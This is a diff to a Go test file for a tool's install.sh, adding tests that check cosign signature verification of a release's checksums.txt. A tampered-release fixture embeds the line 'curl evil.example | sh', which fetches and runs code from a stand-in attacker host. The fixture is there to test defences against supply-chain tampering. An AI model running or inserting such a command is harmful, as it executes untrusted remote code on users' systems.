@@ -96,7 +96,8 @@ func newRelease(t *testing.T, tamper bool) (*release, string) {
 		h := sha256.Sum256(b)
 		fmt.Fprintf(&sums, "%s  %s\n", hex.EncodeToString(h[:]), name)
 	}
-	r := &release{files: map[string][]byte{"checksums.txt": []byte(sums.String())}}
+	r := &release{files: map[string][]byte{"checksums.txt": []byte(sums.String()),
+		"checksums.txt.sigstore.json": []byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}`)}}
 	for name, b := range archives {
 		if tamper {
 			b = tarGz(t, "cdkbot", fakeBinary+"curl evil.example | sh\n")
@@ -110,13 +111,15 @@ func newRelease(t *testing.T, tamper bool) (*release, string) {
 
 // install runs install.sh as the runner would; it returns the exit error, the output and the
 // files the runner reads afterwards.
-func install(t *testing.T, url, version, runnerOS, cache string) (error, string, string, string) {
+func install(t *testing.T, url, version, runnerOS, cache string, env ...string) (error, string, string, string) {
 	t.Helper()
 	dir := t.TempDir()
 	path, output := filepath.Join(dir, "path"), filepath.Join(dir, "output")
 	cmd := exec.Command("bash", "install.sh")
 	cmd.Env = append(os.Environ(), "CDKBOT_VERSION="+version, "CDKBOT_RELEASES_URL="+url+"/dl", "CDKBOT_API_URL="+url+"/api",
-		"RUNNER_OS="+runnerOS, "RUNNER_ARCH=X64", "RUNNER_TOOL_CACHE="+cache, "GITHUB_PATH="+path, "GITHUB_OUTPUT="+output)
+		"RUNNER_OS="+runnerOS, "RUNNER_ARCH=X64", "RUNNER_TOOL_CACHE="+cache, "GITHUB_PATH="+path, "GITHUB_OUTPUT="+output,
+		"CDKBOT_COSIGN=no-cosign-here") // a runner without cosign, whatever this machine has, unless env says otherwise
+	cmd.Env = append(cmd.Env, env...)
 	if runnerOS == "macOS" {
 		cmd.Env = append(cmd.Env, "RUNNER_ARCH=ARM64")
 	}
@@ -226,5 +229,49 @@ func TestInstallVerifiesTheToolCacheOnEveryUse(t *testing.T) {
 	err, out, _, _ = install(t, url, "1.2.3", "Linux", old)
 	if b, _ := os.ReadFile(filepath.Join(oldDir, "cdkbot")); err != nil || string(b) != fakeBinary || strings.Contains(out, "::warning") {
 		t.Errorf("old cache: %v\n%s", err, out)
+	}
+}
+
+// withCosign makes a stand-in cosign that records its arguments and verifies when verdict is 0;
+// it returns the setting that makes install.sh use it, and the arguments file.
+func withCosign(t *testing.T, verdict int) (cosignEnv, args string) {
+	t.Helper()
+	dir := t.TempDir()
+	args = filepath.Join(dir, "args")
+	script := fmt.Sprintf("#!/bin/sh\necho \"$@\" >>%q\n[ %d = 0 ] || echo 'error: no matching signatures' >&2\nexit %d\n", args, verdict, verdict)
+	if err := os.WriteFile(filepath.Join(dir, "cosign"), []byte(script), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	return "CDKBOT_COSIGN=" + filepath.Join(dir, "cosign"), args
+}
+
+// checksums.txt's signature is verified with cosign when it is on PATH (the bundle, the release
+// workflow on main as the signer, GitHub's OIDC issuer); a bad signature installs nothing; without
+// cosign the log says plainly that the signature was not verified, and require-signature stops.
+func TestInstallVerifiesTheSignatureWhenItCan(t *testing.T) {
+	_, url := newRelease(t, false)
+	cosignEnv, argsFile := withCosign(t, 0)
+	err, out, _, _ := install(t, url, "1.2.3", "Linux", t.TempDir(), cosignEnv)
+	args, _ := os.ReadFile(argsFile)
+	if err != nil || !strings.Contains(out, "signature verified") || !strings.Contains(string(args), "verify-blob --bundle ") ||
+		!strings.Contains(string(args), "--certificate-identity https://github.com/cdkbot/cdkbot/.github/workflows/release.yml@refs/heads/main") ||
+		!strings.Contains(string(args), "--certificate-oidc-issuer https://token.actions.githubusercontent.com") {
+		t.Fatalf("verified: %v\n%s\ncosign %s", err, out, args)
+	}
+
+	cosignEnv, _ = withCosign(t, 1)
+	cache := t.TempDir()
+	err, out, path, _ := install(t, url, "1.2.3", "Linux", cache, cosignEnv)
+	if entries, _ := os.ReadDir(cache); err == nil || !strings.Contains(out, "is not signed by") || path != "" || len(entries) != 0 {
+		t.Fatalf("bad signature: %v\n%s", err, out)
+	}
+
+	err, out, _, _ = install(t, url, "1.2.3", "Linux", t.TempDir())
+	if err != nil || !strings.Contains(out, "signature was NOT verified: cosign is not on PATH") {
+		t.Errorf("without cosign: %v\n%s", err, out)
+	}
+	err, out, _, _ = install(t, url, "1.2.3", "Linux", t.TempDir(), "CDKBOT_REQUIRE_SIGNATURE=true")
+	if err == nil || !strings.Contains(out, "cosign is not on PATH") || !strings.Contains(out, "::error") {
+		t.Errorf("required without cosign: %v\n%s", err, out)
 	}
 }
